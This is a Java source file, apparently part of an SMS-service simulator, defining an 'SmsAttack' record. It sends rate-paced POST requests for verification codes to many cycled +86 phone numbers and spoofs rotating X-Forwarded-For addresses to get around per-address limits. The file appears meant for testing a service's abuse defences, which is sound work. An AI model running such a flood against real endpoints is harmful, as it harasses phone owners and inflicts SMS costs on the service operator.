package dev.gatehouse.smssimulator;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Semaphore;
import java.util.concurrent.locks.LockSupport;

/**
 * An attacker of a service that sends codes: asks for codes for many numbers from many addresses.
 * The service must take the addresses from {@code X-Forwarded-For}.
 *
 * @param numbers how many different mainland numbers are asked for, in turns
 * @param addresses how many different addresses ask, in turns
 */
public record SmsAttack(int numbers, int addresses) {

  private static final int AT_ONCE = 16;

  /**
   * Attacks and returns when everything is answered.
   *
   * @param codes the URL that sends codes
   * @param perSecond how many requests are begun in a second at most
   * @return how many answers had which status; 0 for no answer
   */
  public Map<Integer, Integer> run(URI codes, int requests, int perSecond) {
    Map<Integer, Integer> statuses = new ConcurrentHashMap<>();
    Semaphore places = new Semaphore(AT_ONCE);
    long begin = System.nanoTime();
    try (HttpClient http = HttpClient.newHttpClient();
        ExecutorService clients = Executors.newVirtualThreadPerTaskExecutor()) {
      for (int i = 0; i < requests; i++) {
        long due = begin + i * 1_000_000_000L / perSecond;
        for (long rest = due - System.nanoTime(); rest > 0; rest = due - System.nanoTime()) {
          LockSupport.parkNanos(rest);
        }
        HttpRequest request = request(codes, i);
        places.acquireUninterruptibly();
        clients.execute(() -> {
          try {
            statuses.merge(ask(http, request), 1, Integer::sum);
          } finally {
            places.release();
          }
        });
      }
    }
    return statuses;
  }

  private static int ask(HttpClient http, HttpRequest request) {
    try {
      return http.send(request, BodyHandlers.discarding()).statusCode();
    } catch (IOException unanswered) {
      return 0;
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      return 0;
    }
  }

  private HttpRequest request(URI codes, int i) {
    int address = i % addresses;
    return HttpRequest.newBuilder(codes)
        .header("Content-Type", "application/json")
        .header(
            "X-Forwarded-For",
            "10.%d.%d.%d".formatted(address >> 16, address >> 8 & 255, address & 255))
        .POST(BodyPublishers.ofString("{\"phone\":\"+86158%08d\"}".formatted(i % numbers)))
        .build();
  }
}
